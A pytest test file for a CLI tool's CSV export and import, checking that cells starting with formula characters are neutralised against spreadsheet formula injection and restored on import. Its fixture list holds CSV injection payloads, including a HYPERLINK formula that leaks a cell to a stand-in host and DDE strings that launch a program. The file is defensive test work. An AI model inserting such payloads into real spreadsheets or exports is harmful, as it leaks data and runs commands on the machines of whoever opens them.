"""export csv is safe to open in a spreadsheet (OWASP: CSV injection), and import csv reads it back exactly.

A cell that begins with = + - @, a tab or a carriage return gets a leading
quote; rippledoc's own sheet loses exactly that quote again on import.
``--raw`` writes the values as they are.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

from conftest import TODAY, write
from conftest import load_workspace
from rippledoc.cli.app import main
from rippledoc.exchange.csvout import COLUMNS, neutralise, restore

SETTINGS = "title: Book\nme: me\ntimezone: Europe/Berlin\nteam:\n  me: {name: Stan Ortiz}\n"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# name, contact, phone, tags, notes: what a CRM import might bring in
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A3,"Click")', "=1+1", "+1 312 555 0163", ["=cmd"],
     "=2+5 in the notes"),
    ("+cmd|' /C calc'!A0", "+Eva", "+44 20 7946 0958", ["+tag"], "+ a plus line"),
    ("-2+3+cmd|' /C calc'!A0", "-Ivan", "-12", ["-x"], "- a markdown list item\n- and another"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@handle", "@555", ["@x"], "@mention first"),
    ("'=already quoted once", "''+twice", "'+1 555", ["'@x"], "'- quoted note"),
    ("=Москва Импорт", "=Αθηνά Παπαδοπούλου", "+7 495 123 45 67", ["=東京"], "=Ørsted notes"),
    ("'plain quote", "O'Brien", "0700 123", ["ok"], "'just a quote, nothing after"),
]


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def hostile_book(root: Path) -> Path:
    files = {"rippledoc.yaml": SETTINGS}
    for i, (name, contact, phone, tags, notes) in enumerate(HOSTILE):
        files[f"clients/c{i}.md"] = (
            f"---\nname: {_yaml(name)}\ncontact: {_yaml(contact)}\nphone: {_yaml(phone)}\ntimezone: Europe/Berlin\n"
            f"tags: [{', '.join(_yaml(t) for t in tags)}]\n---\n{notes}\n\n## Log\n")
    files["clients/tabbed.md"] = '---\nname: "Tab Co"\ncontact: "\\t=1+1"\naddress: "\\r=2+2"\n---\n'
    return write(root, files)


def rd(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def book(tmp_path: Path) -> Path:
    root = hostile_book(tmp_path / "book")
    assert [d for d in load_workspace(root, TODAY)[1] if d.is_error] == []
    return root


def test_no_exported_cell_begins_like_a_formula(book):
    r = rd("-C", str(book), "export", "csv", "--today", TODAY.isoformat())
    assert r.exit_code == 0, r.output
    rows = cells(r.stdout)
    assert tuple(rows[0]) == COLUMNS and len(rows) == len(HOSTILE) + 2
    starts = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert starts == []
    by_name = {row[0]: row for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A3,"Click")' in by_name
    assert by_name["'+cmd|' /C calc'!A0"][3] == "'+44 20 7946 0958"
    assert by_name["''=already quoted once"][1] == "'''+twice"  # one more quote than it had
    assert by_name["'plain quote"][1] == "O'Brien"  # nothing formula-like: as it is
    assert by_name["Tab Co"][1] == "'\t=1+1" and by_name["Tab Co"][4] == "'\r=2+2"
    assert by_name["'-2+3+cmd|' /C calc'!A0"][17] == "'- a markdown list item\n- and another"


def test_every_cell_is_quoted_so_a_semicolon_cannot_start_a_cell(book, tmp_path):
    write(book, {"clients/semi.md": '---\nname: "Semi; =1+1"\ntags: ["a", "=b"]\n---\n'})
    sheet = tmp_path / "book.csv"
    rd("-C", str(book), "export", "csv", "-o", str(sheet))
    text = sheet.read_bytes().decode("utf-8")
    header, first = text.split("\r\n")[:2]
    assert header == ",".join(f'"{c}"' for c in COLUMNS)
    assert '"Semi; =1+1"' in text  # Excel splitting on ';' still sees one cell
    assert first.startswith('"') and first.endswith('"') and '","' in first


def test_the_safe_sheet_reads_back_exactly_through_import(book, tmp_path):
    sheet = tmp_path / "book.csv"
    assert rd("-C", str(book), "export", "csv", "-o", str(sheet)).exit_code == 0
    empty = write(tmp_path / "empty", {"rippledoc.yaml": SETTINGS, "clients/.keep": ""})
    r = rd("-C", str(empty), "import", "csv", str(sheet), "--today", TODAY.isoformat())
    assert r.exit_code == 0, r.output
    assert "as rippledoc's own sheet, UTF-8, comma-separated" in r.output
    assert r.output.splitlines()[-1].startswith(f"created {len(HOSTILE) + 1}, ")
    left = {c.name: c for c in load_workspace(book, TODAY)[0].clients}
    right = {c.name: c for c in load_workspace(empty, TODAY)[0].clients}
    assert sorted(left) == sorted(right)
    for name, c in left.items():
        d = right[name]
        assert (d.contact, d.phone, d.address, d.tags, d.notes.strip()) == \
            (c.contact.strip(), c.phone, c.address.strip(), c.tags, c.notes.strip()), name
    # (an import trims the spaces around a value, as it does for every sheet: "\t=1+1" comes back "=1+1")
    assert right['=HYPERLINK("http://evil.example/?leak="&A3,"Click")'].phone == "+1 312 555 0163"


def test_importing_the_safe_sheet_into_its_own_book_changes_nothing(book, tmp_path):
    before = {p.name: p.read_bytes() for p in (book / "clients").glob("*.md")}
    sheet = tmp_path / "book.csv"
    rd("-C", str(book), "export", "csv", "-o", str(sheet))
    r = rd("-C", str(book), "import", "csv", str(sheet), "--today", TODAY.isoformat())
    assert r.output.splitlines()[-1] == \
        f"created 0, updated 0 (0 fields), unchanged {len(before)}, conflicts 0, rejected 0", r.output
    assert {p.name: p.read_bytes() for p in (book / "clients").glob("*.md")} == before


def test_a_sheet_a_spreadsheet_saved_again_reads_back_the_same(book, tmp_path):
    """Saved again, the quotes stay and the quoting is minimal: the header still says it is ours."""
    rows = cells(rd("-C", str(book), "export", "csv").stdout)
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=";").writerows(rows)  # as Excel in a European locale saves it
    sheet = tmp_path / "resaved.csv"
    sheet.write_text(buf.getvalue(), encoding="utf-8-sig", newline="")
    empty = write(tmp_path / "empty", {"rippledoc.yaml": SETTINGS, "clients/.keep": ""})
    r = rd("-C", str(empty), "import", "csv", str(sheet), "--today", TODAY.isoformat())
    assert r.exit_code == 0, r.output
    phones = sorted(c.phone for c in load_workspace(empty, TODAY)[0].clients if c.phone)
    assert phones == sorted(p for _, _, p, _, _ in HOSTILE)


def test_raw_writes_the_values_as_they_are(book):
    r = rd("-C", str(book), "export", "csv", "--raw")
    assert r.exit_code == 0, r.output
    assert r.stdout.startswith("name,contact,email,")  # quoted only where CSV needs it
    rows = cells(r.stdout)
    names = {row[0] for row in rows[1:]}
    assert {name for name, *_ in HOSTILE} <= names
    assert any(row[3] == "+1 312 555 0163" for row in rows)


def test_a_quote_in_another_tool_s_sheet_is_the_person_s_text(tmp_path):
    sheet = tmp_path / "crm.csv"
    sheet.write_text("company,contact,phone\r\n'=Quoted Co,'+Ana,'+1 555 0100\r\n", encoding="utf-8")
    root = write(tmp_path / "ws", {"rippledoc.yaml": SETTINGS, "clients/.keep": ""})
    r = rd("-C", str(root), "import", "csv", str(sheet), "--today", TODAY.isoformat())
    assert r.exit_code == 0, r.output
    assert "as plain sheet" in r.output
    (c,) = load_workspace(root, TODAY)[0].clients
    assert (c.name, c.contact, c.phone) == ("'=Quoted Co", "'+Ana", "'+1 555 0100")


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_START)
    assert restore(safe) == text


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1 312 555 0163", "'+1 312 555 0163"), ("-", "'-"), ("@", "'@"), ("\t=x", "'\t=x"),
    ("\r=x", "'\r=x"), ("'=x", "''=x"), ("''-x", "'''-x"), ("'x", "'x"), ("'", "'"), ("", ""), ("a=1", "a=1"),
    (" =1", " =1"), ("Москва", "Москва"), ("Ørsted", "Ørsted"),
])
def test_what_gets_a_quote(cell, safe):
    assert neutralise(cell) == safe and restore(safe) == cell


def test_bom_starts_the_sheet_for_spreadsheets_and_our_import_reads_it_back(book, tmp_path):
    write(book, {"clients/moskva.md": '---\nname: "Санкт Торг Ωμέγα"\ntimezone: Europe/Moscow\n---\n'})
    sheet = tmp_path / "excel.csv"
    assert rd("-C", str(book), "export", "csv", "--bom", "-o", str(sheet)).exit_code == 0
    raw = sheet.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf\"name\"") and "Санкт Торг Ωμέγα".encode() in raw
    assert not rd("-C", str(book), "export", "csv").stdout_bytes.startswith(b"\xef\xbb\xbf")  # only when asked
    empty = write(tmp_path / "empty", {"rippledoc.yaml": SETTINGS, "clients/.keep": ""})
    r = rd("-C", str(empty), "import", "csv", str(sheet), "--today", TODAY.isoformat())
    assert r.exit_code == 0, r.output
    assert "rippledoc's own sheet" in r.output
    assert "Санкт Торг Ωμέγα" in {c.name for c in load_workspace(empty, TODAY)[0].clients}
